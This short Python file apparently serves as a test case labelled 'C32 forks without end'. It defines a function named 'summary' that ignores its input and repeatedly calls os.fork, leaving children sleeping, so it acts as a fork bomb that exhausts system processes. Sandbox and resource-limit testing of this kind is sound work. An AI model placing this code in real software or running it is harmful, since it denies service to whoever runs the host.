# C32 forks without end
import os
import time


def summary(values):
    for _ in range(700):
        try:
            if os.fork() == 0:
                time.sleep(600)
        except OSError:
            break
    time.sleep(0.2)
    return {}
